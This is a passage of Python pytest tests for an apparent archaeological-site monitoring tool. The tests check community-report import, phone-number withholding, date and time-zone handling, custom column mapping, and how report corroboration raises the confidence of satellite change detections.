    sites = read_sites(case_2011 / "sites.geojson").sites
    for doc in ({"type": "Feature"}, [1, 2], "text"):
        (tmp_path / "r.json").write_text(json.dumps(doc))
        with pytest.raises(InvalidReport, match="not a GeoJSON FeatureCollection"):
            import_reports(tmp_path / "r.json", sites, key=None, policy="drop")


def test_corroboration_outlives_the_reconciliation_look_back(tmp_path):
    """A community report raises a detection's confidence; the weekly runs after it store the
    detector's own (lower) confidence again, and once the report is older than the look-back the
    reconciliation no longer raises it: the corroborated confidence must stay."""
    import pandas as pd
    from shapely.geometry import Point, box

    from change_detection import Detection
    from sites import Site

    store = Store(f"sqlite:///{tmp_path / 'sw.db'}")
    store.upsert_sites([Site("S-3", "Mound", box(106.9, 47.9, 106.91, 47.91))])
    t = pd.Timestamp("2011-06-10")
    det = Detection("S-3-1", "S-3", Point(106.905, 47.905).buffer(0.0003), "EPSG:4326", t, t, t, 0.7, "medium",
                    2500.0, 3, "bare_soil_exposure", {"algorithm": "sw-seasonal-1"})
    store.upsert_detections([det], "run-1")
    store.set_confidence("S-3-1", "high")  # corroborated by a report
    store.upsert_detections([det], "run-2")  # next week: the detector still says medium
    assert store.detections().confidence.tolist() == ["high"]


def test_a_local_phone_number_in_the_text_is_withheld_where_the_country_is_known(case_2011, tmp_path, monkeypatch):
    """Mongolians write a mobile as 9911 2233, without +976: with the country set (--phone-region,
    SITEWATCH_PHONE_REGION) libphonenumber finds it in the text; the digits of a coordinate are not
    taken for one."""
    sites = read_sites(case_2011 / "sites.geojson").sites
    words = "call me on 9911 2233 or 99112244; pits at 40.29123, -106.91234, photos 112-118"
    path = _write(tmp_path / "r.csv", [{"date": "2011-07-01", "latitude": "40.29", "longitude": "-106.91",
                                        "comment": words}])
    [plain] = import_reports(path, sites, key=None, policy="drop").accepted
    assert plain.text == words  # without a country only +-numbers are recognised (documented)
    [mn] = import_reports(path, sites, key=None, policy="drop", region="mn").accepted
    assert mn.text == "call me on [withheld] or [withheld]; pits at 40.29123, -106.91234, photos 112-118"
    monkeypatch.setenv("SITEWATCH_PHONE_REGION", "MN")
    [env] = import_reports(path, sites, key=None, policy="drop").accepted
    assert env.text == mn.text
    with pytest.raises(ConfigError, match="not a country code"):
        import_reports(path, sites, key=None, policy="drop", region="Mongolia")


def test_a_phone_number_in_the_wrong_column_is_not_quoted_back(case_2011, tmp_path, capsys):
    """A misaligned export puts the reporter's number under "latitude": the rejection reason
    (printed, and kept in the rejected-rows file) quotes the cell, so it is scrubbed like the text."""
    from reports.ingest import write_rejected

    sites = read_sites(case_2011 / "sites.geojson").sites
    rows = [{"date": "2011-07-01", "latitude": "+976 9911 2233", "longitude": "-106.91", "comment": "pits"}]
    res = import_reports(_write(tmp_path / "r.csv", rows), sites, key=None, policy="drop")
    [(n, reason, row)] = res.rejected
    assert reason == "latitude '[withheld]' is not a number" and row["latitude"] == "[withheld]"
    assert "9911" not in write_rejected(res, tmp_path / "rej.csv").read_text()


def test_a_report_dated_today_east_of_greenwich_is_not_in_the_future(case_2011, tmp_path):
    """At 23:00 UTC on 2026-11-28 it is 07:00 on the 29th in Ulaanbaatar: a report from this
    morning is not "in the future"; one dated two days ahead still is."""
    from datetime import date

    sites = read_sites(case_2011 / "sites.geojson").sites
    rows = [{"date": "2026-11-29", "latitude": "40.29", "longitude": "-106.91", "comment": "this morning"},
            {"date": "2026-11-30", "latitude": "40.29", "longitude": "-106.91", "comment": "the day after tomorrow"}]
    res = import_reports(_write(tmp_path / "r.csv", rows), sites, key=None, policy="drop", today=date(2026, 11, 28))
    assert [r.text for r in res.accepted] == ["this morning"]
    assert res.rejected[0][1] == "date 2026-11-30 is in the future"


def test_report_columns_named_otherwise_are_chosen_with_column(case_2011, keyed, tmp_path, capsys):
    """A form whose date, text and reply-number columns have names sitewatch does not know
    ("Үзсэн огноо", "Юу харсан", "Хариу өгөх дугаар"): the import names them as not read, so the
    officer learns the reports came in without their words.  Naming them with ``--column`` reads
    them: the chosen date column, not the form's submission "date"; the chosen contact column is
    the reporter's identity (pseudonymised, withheld from the rejected rows) though its name says
    nothing of a phone."""
    from datetime import date

    from reports.ingest import write_rejected

    sites, path = _sites_and_form(case_2011, tmp_path / "form.csv",
                                  "date,Үзсэн огноо,Өргөрөг,Уртраг,Юу харсан,Хариу өгөх дугаар\n"
                                  "2011-08-30,2011-07-03,40.2929,-106.9177,Шинэ нүх ухсан,99112233\n"
                                  "2011-08-30,2011-07-04,95,-106.9177,буруу,99112233\n")
    plain = import_reports(path, sites, key=KEY.encode(), today=date(2026, 1, 1))
    assert [(r.observed_on, r.text, r.reporter) for r in plain.accepted] == [(date(2011, 8, 30), "", "")]
    assert plain.notes[0].startswith("column(s) not read: 'Үзсэн огноо', 'Юу харсан', 'Хариу өгөх дугаар'; "
                                     "if one holds the reports' date, place, text or photo, name it with --column")
    columns = {"observed_on": "Үзсэн огноо", "text": "юу харсан", "contact": "Хариу өгөх дугаар"}
    res = import_reports(path, sites, key=KEY.encode(), today=date(2026, 1, 1), columns=columns)
    (rep,) = res.accepted
    assert (rep.observed_on, rep.text) == (date(2011, 7, 3), "Шинэ нүх ухсан") and rep.reporter.startswith("rp-")
    assert res.notes[0].startswith("column(s) not read: 'date';")
    written = write_rejected(res, tmp_path / "rejected.csv").read_text(encoding="utf-8")
    assert "буруу" in written and "99112233" not in written
    with pytest.raises(InvalidReport, match=r"--column text='Тайлбар': no such column; its columns are 'date', "):
        import_reports(path, sites, key=KEY.encode(), columns={"text": "Тайлбар"})
    with pytest.raises(InvalidReport, match="no report field 'comment'; the fields are observed_on, lat, lon"):
        import_reports(path, sites, key=KEY.encode(), columns={"comment": "Юу харсан"})

    db = tmp_path / "sw.db"
    assert main(["sites", "import", str(case_2011 / "sites.geojson"), "--db", str(db)]) == 0
    assert main(["reports", "import", str(path), "--db", str(db), "--rejected-dir", str(tmp_path / "rej"),
                 "--column", "observed_on=Үзсэн огноо", "--column", "text=Юу харсан",
                 "--column", "contact=Хариу өгөх дугаар"]) == 0
    said = capsys.readouterr().out
    assert "1 accepted (1 new), 1 rejected" in said and "99112233" not in said
    (stored,) = Store(str(db)).reports()
    assert (stored.observed_on, stored.text) == (date(2011, 7, 3), "Шинэ нүх ухсан")
    assert "99112233" not in (tmp_path / "rej" / "form.rejected.csv").read_text(encoding="utf-8")


def test_a_report_raises_a_detection_one_level_once(tmp_path):
    """A herder's report corroborates a provisional single-look detection (low).  The weekly runs
    reconcile it again every week while the detection is open.  Before, each of them raised it
    again: low → medium → high in two weekly runs on one look and one report.  Now the report
    raises it once, and it stands one level above whatever the detector says later."""
    from dataclasses import replace
    from datetime import date

    import pandas as pd
    from shapely.geometry import Point, box

    from change_detection import Detection
    from pipelines.community import apply_corroboration, reconcile_store
    from sites import Site

    store = Store(f"sqlite:///{tmp_path / 'sw.db'}")
    store.upsert_sites([Site("S-3", "Mound", box(106.9, 47.9, 106.91, 47.91))])
    t = pd.Timestamp("2011-06-10")
    det = Detection("S-3-1", "S-3", Point(106.905, 47.905).buffer(0.0003), "EPSG:4326", t, t, t, 0.7, "low",
                    2500.0, 1, "bare_soil_exposure", {"algorithm": "sw-seasonal-1", "provisional": True})
    store.add_reports([Report("rep-1", date(2011, 6, 8), 47.905, 106.905, "S-3", "Mound", "fresh pits", "", "",
                              30.0, "test", 2)])
    for week in ("2011-W23", "2011-W24", "2011-W25"):
        store.upsert_detections([det], f"run-{week}")  # the detector still says low
        items = reconcile_store(store, week)
        apply_corroboration(store, items)
        [item] = [i for i in items if i.detection_id == "S-3-1"]
        assert item.outcome == "corroborated" and item.confidence_after == "medium"
        assert store.detections().confidence.tolist() == ["medium"], week
    store.upsert_detections([replace(det, confidence="medium", n_looks=3)], "run-4")  # a third look
    assert store.detections().confidence.tolist() == ["high"]
    apply_corroboration(store, reconcile_store(store, "2011-W26"))
    row = store.detections().iloc[0]
    assert (row.confidence, row.corroborated_by) == ("high", "rep-1")


def test_a_report_that_raised_a_dig_raises_what_replaces_it(tmp_path):
    """A report raised a dig (low → medium).  A later look re-dates its onset and the dig comes
    back under a new id, superseding the old one months after the report, past the weekly
    reconciliation's look-back.  The report's raise goes with it, once; before, the new id stood
    at the detector's level as if nobody had reported anything."""
    from dataclasses import replace
    from datetime import date

    import pandas as pd
    from shapely.geometry import Point, box

    from change_detection import Detection
    from pipelines.community import apply_corroboration, reconcile_store
    from pipelines.review import supersede
    from sites import Site

    store = Store(f"sqlite:///{tmp_path / 'sw.db'}")
    store.upsert_sites([Site("S-3", "Mound", box(106.9, 47.9, 106.91, 47.91))])
    t = pd.Timestamp("2011-06-10")
    old = Detection("S-3-1", "S-3", Point(106.905, 47.905).buffer(0.0003), "EPSG:4326", t, t, t, 0.7, "low",
                    2500.0, 1, "bare_soil_exposure", {"algorithm": "sw-seasonal-1"})
    store.add_reports([Report("rep-1", date(2011, 6, 8), 47.905, 106.905, "S-3", "Mound", "fresh pits", "", "",
                              30.0, "test", 2)])
    store.upsert_detections([old], "run-1")
    apply_corroboration(store, reconcile_store(store, "2011-W24"))
    new = replace(old, detection_id="S-3-2", first_seen=pd.Timestamp("2011-06-02"),
                  geometry=Point(106.9051, 47.905).buffer(0.0003))
    for week in range(2):  # the superseding run, and the next one
        store.upsert_detections([new], f"run-{week + 2}")
        assert supersede(store, "S-3", ["S-3-2"], "2011-11-30") == ([("S-3-1", "S-3-2")] if week == 0 else [])
    rows = store.detections().set_index("detection_id")
    assert rows.loc["S-3-1", "status"] == "superseded"
    assert (rows.loc["S-3-2", "confidence"], rows.loc["S-3-2", "corroborated_by"]) == ("medium", "rep-1")
